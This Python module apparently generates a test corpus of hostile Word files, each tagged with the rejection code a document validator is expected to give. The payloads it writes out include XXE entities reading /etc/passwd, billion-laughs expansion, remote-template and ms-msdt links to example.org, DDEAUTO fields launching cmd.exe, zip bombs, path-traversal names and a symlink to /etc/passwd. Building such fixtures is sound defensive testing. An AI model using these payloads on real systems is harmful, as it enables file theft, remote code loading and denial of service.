"""Makes named hostile Word files, each with the one code that must be found in it; nothing of it is kept on disk."""

import io
import random
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from functools import partial

W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_NS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
STRICT_R = "http://purl.oclc.org/ooxml/officeDocument/relationships"
MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES = f"""<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml" ContentType="{MAIN_TYPE}"/></Types>"""
RELATIONS = f"""<Relationships {REL_NS}>
<Relationship Id="rId1" Type="{R_NS}/officeDocument" Target="word/document.xml"/></Relationships>"""
NO_RELATIONS = f"<Relationships {REL_NS}></Relationships>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)

Parts = Mapping[str, str | bytes]


@dataclass(frozen=True)
class Hostile:
    """A file by name, the code it must give (and no other), and the function that makes its bytes."""

    name: str
    code: str
    make: Callable[[], bytes]


def body(inner: str = "<w:p><w:r><w:t>Gewone tekst.</w:t></w:r></w:p>") -> str:
    return f"<w:document {W_NS}><w:body>{inner}</w:body></w:document>"


def parts(**changed: str | bytes) -> dict[str, str | bytes]:
    """The parts of a small, sound Word file; keyword `document` replaces the text."""
    return {
        "[Content_Types].xml": changed.get("types", TYPES),
        "_rels/.rels": changed.get("relations", RELATIONS),
        "word/document.xml": changed.get("document", body()),
        "word/_rels/document.xml.rels": changed.get("links", NO_RELATIONS),
    }


def zipped(content: Parts | list[tuple[str, str | bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The parts as a zip; a list may name a part twice."""
    stream = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "w", method) as archive:
        warnings.simplefilter("ignore")  # zipfile warns about the double names that are the point here
        for name, text in content.items() if isinstance(content, Mapping) else content:
            archive.writestr(zipfile.ZipInfo(name), text, method)
    return stream.getvalue()


def with_part(name: str, content: str | bytes) -> bytes:
    return zipped({**parts(), name: content})


def variants() -> Iterator[Hostile]:
    """All hostile files."""
    yield from _dtd()
    yield from _encodings()
    yield from _external()
    yield from _active()
    yield from _limits()
    yield from _names()
    yield from _not_word()


LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
PAYLOADS = {
    "file": '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "http": '<!DOCTYPE w [<!ENTITY x SYSTEM "http://example.org/x">]>',
    "external-dtd": '<!DOCTYPE w SYSTEM "http://example.org/x.dtd">',
    "parameter": '<!DOCTYPE w [<!ENTITY % x SYSTEM "file:///dev/zero"> %x;]>',
    "laughs": f'<!DOCTYPE w [<!ENTITY l0 "ha">{LAUGHS}]>',
    "quadratic": f'<!DOCTYPE w [<!ENTITY x "{"a" * 50_000}">]>',
    "empty": "<!DOCTYPE w>",
}
PLACES = {
    "document": ("word/document.xml", body("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>")),
    "types": ("[Content_Types].xml", TYPES),
    "relations": ("_rels/.rels", RELATIONS),
    "links": ("word/_rels/document.xml.rels", NO_RELATIONS),
    "header": ("word/header1.xml", f"<w:hdr {W_NS}/>"),
    "footnotes": ("word/footnotes.xml", f"<w:footnotes {W_NS}/>"),
    "styles": ("word/styles.xml", f"<w:styles {W_NS}/>"),
    "core": ("docProps/core.xml", "<coreProperties/>"),
    "custom": ("customXml/item1.xml", "<a/>"),
    "misnamed": ("word/media/plaatje.png", "<a/>"),
    "vml": ("word/drawing.vml", "<xml/>"),
}
ENCODINGS = {
    "utf8-bom": ("utf-8-sig", ""),
    "utf16": ("utf-16", ""),
    "utf16-le-bare": ("utf-16-le", '<?xml version="1.0" encoding="UTF-16"?>'),
    "utf16-be-bare": ("utf-16-be", '<?xml version="1.0" encoding="UTF-16"?>'),
    "utf16-says-utf8": ("utf-16", '<?xml version="1.0" encoding="UTF-8"?>'),
    "latin": ("latin-1", '<?xml version="1.0" encoding="ISO-8859-1"?>'),
    "single-quotes": ("ascii", "<?xml version='1.0' encoding = 'utf-8' standalone='yes'?>"),
}


def _dtd() -> Iterator[Hostile]:
    for place, (name, text) in PLACES.items():
        for payload, dtd in PAYLOADS.items():
            yield Hostile(f"dtd-{payload}-in-{place}", "VEI703", partial(with_part, name, dtd + text))
    name, text = PLACES["document"]
    for encoding, (codec, declaration) in ENCODINGS.items():
        for payload in ("file", "laughs"):
            data = (declaration + PAYLOADS[payload] + text).encode(codec)
            yield Hostile(f"dtd-{payload}-{encoding}", "VEI703", partial(with_part, name, data))
    alone = "<a><!ENTITY x SYSTEM 'file:///etc/passwd'></a>"
    yield Hostile("dtd-entity-alone", "VEI703", partial(with_part, "customXml/item1.xml", alone))
    yield Hostile("dtd-after-spaces", "VEI703", partial(with_part, name, " \n" * 90 + PAYLOADS["file"] + text))
    yield Hostile("dtd-after-comment", "VEI703", partial(with_part, name, "<!-- x -->" + PAYLOADS["file"] + text))


def _encodings() -> Iterator[Hostile]:
    hidden = PAYLOADS["file"] + body()
    said = '<?xml version="1.0" encoding="{}"?>'
    files = {
        "utf7": said.format("UTF-7").encode() + hidden.encode("utf-7").replace(b"<!", b"+ADwAIQ-"),
        "utf32": (said.format("UTF-32") + hidden).encode("utf-32"),
        "utf32-le-bare": (said.format("UTF-32") + hidden).encode("utf-32-le"),
        "utf32-be-bare": (said.format("UTF-32") + hidden).encode("utf-32-be"),
        "ebcdic": (said.format("IBM037") + hidden).encode("cp037"),
        "unknown": said.format("x-geheim").encode() + body().encode(),
        "broken-utf16": b"\xff\xfe<\0w\0\0\xd8<\0",
        "broken-utf8": body("\udc80").encode("utf-8", "surrogateescape"),
        "nul": body("\0").encode(),
        "cut-off": body()[:-20].encode(),
        "empty": b"",
        "undefined-entity": body("<w:p><w:r><w:t>&geheim;</w:t></w:r></w:p>").encode(),
        "too-deep": ("<w:document " + W_NS + ">" + "<w:p>" * 5_000 + "</w:p>" * 5_000 + "</w:document>").encode(),
        "many-attributes": f"<w:document {W_NS} a='1' a='2'/>".encode(),
    }
    for name, data in files.items():
        yield Hostile(f"xml-{name}", "BST101", partial(with_part, "word/document.xml", data))
    # A part that is never parsed, so that only looking at its bytes can refuse it.
    long = said.replace(" e", " " * 300 + "e")
    unseen = (PAYLOADS["file"] + "<a/>").encode("utf-7").replace(b"<!", b"+ADwAIQ-")
    declared = {
        "utf7": said.format("UTF-7").encode() + unseen,
        "utf7-far": long.format("UTF-7").encode() + unseen,
        "utf7-far-in-utf16": (long.format("UTF-7") + "<a/>").encode("utf-16"),
        "utf8-far": long.format("UTF-8").encode() + b"<a/>",
        "without-end": b'<?xml version="1.0" encoding="UTF-7"',
    }
    for name, data in declared.items():
        yield Hostile(f"declaration-{name}", "BST101", partial(with_part, "customXml/item1.xml", data))
    for place in ("header1", "styles", "footnotes"):
        root = {"header1": "hdr"}.get(place, place)
        data = f"<w:{root} {W_NS}><w:p>"
        yield Hostile(f"xml-cut-off-{place}", "BST101", partial(with_part, f"word/{place}.xml", data))
    yield Hostile("xml-cut-off-types", "BST101", partial(with_part, "[Content_Types].xml", "<Types"))
    yield Hostile("xml-cut-off-links", "BST101", partial(with_part, "word/_rels/document.xml.rels", "<Relationships>"))


def relation(kind: str, target: str, mode: str = 'TargetMode="External"', base: str = R_NS) -> str:
    return (
        f'<Relationships {REL_NS}><Relationship Id="r1" Type="{base}/{kind}" Target="{target}" {mode}/></Relationships>'
    )


def _external() -> Iterator[Hostile]:
    targets = {
        "https": "https://example.org/x.dotm",
        "unc": r"\\example.org\deel\x.dotm",
        "file-server": "file://example.org/deel/x.dotm",
        "mhtml": "mhtml:http://example.org/x.html!x-usc:http://example.org/x.html",
    }
    for kind in ("attachedTemplate", "oleObject", "subDocument", "frame", "image", "video"):
        for where, target in targets.items():
            links = relation(kind, target)
            yield Hostile(f"external-{kind}-{where}", "VEI701", partial(zipped, parts(links=links)))
    for target in ("file:///C:/Users/x/sjabloon.dotx", r"C:\sjabloon.dotx", "sjabloon.dotx"):
        links = relation("attachedTemplate", target)
        yield Hostile(f"external-template-{target[:7]}", "VEI701", partial(zipped, parts(links=links)))
    for target in (
        "javascript:alert(1)",
        "ms-msdt:/id x",
        "search-ms:query=x",
        "file://example.org/x",
        r"\\example.org\x",
    ):
        links = relation("hyperlink", target)
        yield Hostile(f"external-hyperlink-{target[:9]}", "VEI701", partial(zipped, parts(links=links)))
    template = "https://example.org/x.dotm"
    shapes = {
        "single-quotes": relation("attachedTemplate", template).replace('"', "'"),
        "upper-case-mode": relation("image", "logo.png", 'TargetMode="EXTERNAL"'),
        "no-mode": relation("attachedTemplate", template, ""),
        "internal-mode": relation("image", template, 'TargetMode="Internal"'),
        "strict": relation("attachedTemplate", template, base=STRICT_R),
        "upper-case-type": relation("ATTACHEDTEMPLATE", template),
        "entity-in-target": relation("attachedTemplate", "&#104;ttps://example.org/x.dotm", ""),
        "prefixed": relation("image", template)
        .replace("<Rel", "<r:Rel")
        .replace("</Rel", "</r:Rel")
        .replace("xmlns=", "xmlns:r="),
        "utf16": ('<?xml version="1.0" encoding="UTF-16"?>' + relation("image", template)).encode("utf-16"),
    }
    for name, links in shapes.items():
        yield Hostile(f"external-{name}", "VEI701", partial(zipped, parts(links=links)))
    settings = {"word/_rels/settings.xml.rels": relation("attachedTemplate", template)}
    yield Hostile("external-in-settings", "VEI701", partial(zipped, {**parts(), **settings}))
    for code in ("INCLUDEPICTURE", "INCLUDETEXT", "LINK Word.Document.8", "IMPORT", "DATABASE", "RD", "rd"):
        yield Hostile(
            f"field-{code[:11]}", "VEI701", partial(zipped, parts(document=body(_field(f'{code} "{template}"'))))
        )
    yield Hostile(
        "external-root", "VEI701", partial(zipped, parts(relations=RELATIONS.replace("</Rel", f"{_thumbnail()}</Rel")))
    )


def _thumbnail() -> str:
    return f'<Relationship Id="r9" Type="{R_NS}/image" Target="http://example.org/x.png" TargetMode="External"/>'


def _field(code: str) -> str:
    """A complex field whose code is cut over two runs, as Word does."""
    middle = len(code) // 3
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{half}</w:instrText></w:r>' for half in (code[:middle], code[middle:])
    )
    begin, end = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return f"<w:p>{begin}{runs}{end}</w:p>"


def _active() -> Iterator[Hostile]:
    vba = "application/vnd.ms-office.vbaProject"
    macro_types = {
        "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
        "dotm": "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    }
    for name, content_type in macro_types.items():
        types = TYPES.replace(MAIN_TYPE, content_type)
        yield Hostile(f"macro-{name}", "VEI702", partial(zipped, parts(types=types)))
    types = TYPES.replace("</Types>", f'<Override PartName="/word/x.xml" ContentType="{vba}"/></Types>')
    yield Hostile("macro-by-type", "VEI702", partial(zipped, {**parts(types=types), "word/x.xml": "<a/>"}))
    yield Hostile("macro-single-quotes", "VEI702", partial(zipped, parts(types=types.replace('"', "'"))))
    for name in ("word/vbaProject.bin", "word/plaatje.png", "customXml/item9.bin", "word/embeddings/oleObject1.bin"):
        yield Hostile(f"ole-bytes-{name}", "VEI702", partial(with_part, name, OLE))
    for name in (
        "word/vbaProject.bin",
        "word/vbaData.xml",
        "word/embeddings/oleObject1.bin",
        "word/activeX/activeX1.bin",
    ):
        yield Hostile(f"by-name-{name}", "VEI702", partial(with_part, name, b"<a/>"))
    relations = {
        "vbaProject": "vbaProject.bin",
        "wordVbaData": "vbaData.xml",
        "attachedToolbars": "x.bin",
        "control": "activeX/activeX1.xml",
        "activeXControlBinary": "activeX/activeX1.bin",
        "oleObject": "embeddings/o.bin",
        "package": "embeddings/x.docm",
        "aFChunk": "los.html",
    }
    for kind, target in relations.items():
        links = relation(kind, target, "")
        yield Hostile(f"relation-{kind}", "VEI702", partial(zipped, parts(links=links)))
        yield Hostile(
            f"relation-{kind}-strict", "VEI702", partial(zipped, parts(links=relation(kind, target, "", STRICT_R)))
        )
    for code in ("DDEAUTO c:\\x\\cmd.exe", "DDE excel x", "ddeauto x"):
        yield Hostile(f"field-{code[:7]}", "VEI702", partial(zipped, parts(document=body(_field(code)))))
    simple = '<w:p><w:fldSimple w:instr="DDEAUTO x y"/></w:p>'
    yield Hostile("field-simple-dde", "VEI702", partial(zipped, parts(document=body(simple))))


def _limits() -> Iterator[Hostile]:
    megabyte = 1024 * 1024
    zeros = partial(bytes, 60 * megabyte)
    files: dict[str, Callable[[], bytes]] = {
        "bomb-200-mb": lambda: bomb("word/document.xml", 200 * megabyte),
        "bomb-image": lambda: bomb("word/media/image1.png", 200 * megabyte),
        "bomb-declared-small": lambda: declared(bomb("word/document.xml", 20 * megabyte), 1_000),
        "member-too-large": lambda: with_part("word/media/a.bin", zeros()),
        "ratio": lambda: with_part("word/media/a.bin", bytes(5 * megabyte)),
        "total": lambda: zipped({**parts(), **{f"m/{n}.xml": _varied(40 * megabyte, n) for n in range(3)}}),
        "many-members": lambda: many_members(10_001),
        "declared-large": lambda: declared(with_part("word/a.bin", b"x" * 100), 5_000, b"word/a.bin"),
        "declared-small": lambda: declared(with_part("word/a.bin", b"x" * 100), 10, b"word/a.bin"),
        "overlapping": overlapping,
        "overlapping-a-little": overlapping_a_little,
        "bzip2": lambda: zipped(parts(), zipfile.ZIP_BZIP2),
        "lzma": lambda: zipped(parts(), zipfile.ZIP_LZMA),
    }
    for name, make in files.items():
        yield Hostile(f"zip-{name}", "VEI704", make)
    yield Hostile("zip-reaching-into-the-contents", "BST101", reaching_into_the_contents)


def _varied(size: int, seed: int) -> bytes:
    """Bytes that deflate some fifteen times, less than the limit on ratio; the repetition is out of deflate's reach."""
    block = random.Random(seed).randbytes(2_500) + bytes(37_500)
    return block * (size // len(block))


def bomb(name: str, size: int) -> bytes:
    """A sound file in which one part is `size` zeros, written without ever holding them all."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, text in parts().items():
            if part != name:
                archive.writestr(part, text)
        with archive.open(name, "w") as member:
            for _ in range(size // (1024 * 1024)):
                member.write(bytes(1024 * 1024))
    return stream.getvalue()


def declared(data: bytes, size: int, name: bytes = b"word/document.xml") -> bytes:
    """The file, with another unpacked size in the list of contents for this member."""
    at = data.rindex(name) - 46
    assert data[at : at + 4] == b"PK\x01\x02"
    return data[: at + 24] + struct.pack("<I", size) + data[at + 28 :]


def many_members(count: int) -> bytes:
    return zipped({**parts(), **{f"a/{number}": "" for number in range(count)}}, zipfile.ZIP_STORED)


def overlapping() -> bytes:
    """Two entries of the list that share the same packed bytes, the way of the most compact bombs."""
    data = bytearray(with_part("word/a.bin", b"x" * 50))
    first = data.index(b"PK\x01\x02")
    last = data.rindex(b"PK\x01\x02")
    data[last + 42 : last + 46] = data[first + 42 : first + 46]
    return bytes(data)


def overlapping_a_little() -> bytes:
    """A member that begins in the last bytes of the one before it: fewer bytes than the name of that one is long."""
    begin = b"PK\x03\x04\x14"
    content = [*parts().items(), ("word/a.bin", b"x" * 50 + begin), ("word/b.bin", b"y")]
    whole = zipped(content, zipfile.ZIP_STORED)
    at = whole.index(begin * 2)  # where the one ends and the other begins
    data = bytearray(whole[:at] + whole[at + len(begin) :])
    for place in (data.rindex(b"PK\x01\x02") + 42, data.rindex(b"PK\x05\x06") + 16):
        data[place : place + 4] = struct.pack("<I", struct.unpack_from("<I", data, place)[0] - len(begin))
    return bytes(data)


def reaching_into_the_contents() -> bytes:
    """A member that claims one packed byte more than it has: the first of the list of contents. It unpacks all the same."""
    data = bytearray(with_part("word/a.bin", b"x" * 100))
    at = data.rindex(b"PK\x01\x02") + 20
    data[at : at + 4] = struct.pack("<I", struct.unpack_from("<I", data, at)[0] + 1)
    return bytes(data)


def _names() -> Iterator[Hostile]:
    outside = (
        "../x.xml",
        "word/../../x.xml",
        "/etc/x",
        "C:/x.xml",
        "C:\\x.xml",
        "word\\x.xml",
        "./x",
        "a//b",
        "..",
        "a\nb",
        "\u202ex",
    )
    for name in outside:
        yield Hostile(f"name-{name!r}", "VEI709", partial(with_part, name, "x"))
    yield Hostile(
        "name-nul", "VEI709", lambda: with_part("word/x\u2400y.xml", "x").replace("\u2400".encode(), b"\0\0\0")
    )
    yield Hostile("name-symlink", "VEI709", symlink)
    for twin in ("word/document.xml", "WORD/document.xml", "word/Document.XML", "[content_types].xml", "_RELS/.rels"):
        yield Hostile(f"twin-{twin}", "VEI705", partial(zipped, [*parts().items(), (twin, body())]))
    accents = [*parts().items(), ("word/\u00e9.xml", "<a/>"), ("word/e\u0301.xml", "<a/>")]
    yield Hostile("twin-unicode", "VEI705", partial(zipped, accents))
    yield Hostile("two-names", "VEI705", lambda: zipped(parts()).replace(b"word/document.xml", b"word/Xocument.xml", 1))


def symlink() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, text in parts().items():
            archive.writestr(name, text)
        link = zipfile.ZipInfo("word/media/link.png")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return stream.getvalue()


def encrypted() -> bytes:
    """A zip whose members say that they are encrypted."""
    data = bytearray(zipped(parts()))
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        data[at + 8] |= 1
    return bytes(data)


def _not_word() -> Iterator[Hostile]:
    sheet = RELATIONS.replace("word/document.xml", "xl/workbook.xml")
    whole = zipped(parts())
    files = {
        "empty": b"",
        "text": b"Dit is gewoon tekst.",
        "zeros": bytes(10_000),
        "old-doc": OLE,
        "password": OLE + "EncryptedPackage".encode("utf-16-le"),
        "zip-password": encrypted(),
        "cut-off": whole[:-30],
        "half": whole[: len(whole) // 2],
        "only-end": b"PK\x05\x06" + bytes(18),
        "other-zip": zipped({"lees.txt": "hallo"}),
        "spreadsheet": zipped({**parts(relations=sheet), "xl/workbook.xml": "<workbook/>"}),
        "no-document": zipped({name: text for name, text in parts().items() if name != "word/document.xml"}),
        "no-relations": zipped({name: text for name, text in parts().items() if name != "_rels/.rels"}),
        "no-types": zipped({name: text for name, text in parts().items() if "Types" not in name}),
        "other-root": with_part("word/document.xml", "<html><body/></html>"),
        "relation-to-nothing": zipped(parts(relations=NO_RELATIONS)),
        "wrong-checksum": declared_checksum(),
        "far-away": far_away(),
        "pdf": b"%PDF-1.7\n",
    }
    for name, data in files.items():
        yield Hostile(f"not-word-{name}", "BST101", partial(bytes, data))


def declared_checksum() -> bytes:
    data = bytearray(zipped(parts()))
    at = data.index(b"PK\x01\x02") + 16
    data[at : at + 4] = b"\x01\x02\x03\x04"
    return bytes(data)


def far_away() -> bytes:
    """A member of which the list says that it begins further on than any file is long (zip64)."""
    data = zipped(parts())
    entry, end = data.rindex(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")
    extra = struct.pack("<HHQ", 1, 8, 2**63)
    listed = bytearray(data[entry:end] + extra)
    struct.pack_into("<H", listed, 30, len(extra))
    struct.pack_into("<I", listed, 42, 0xFFFFFFFF)
    closing = bytearray(data[end:])
    struct.pack_into("<I", closing, 12, struct.unpack_from("<I", closing, 12)[0] + len(extra))
    return data[:entry] + bytes(listed) + bytes(closing)
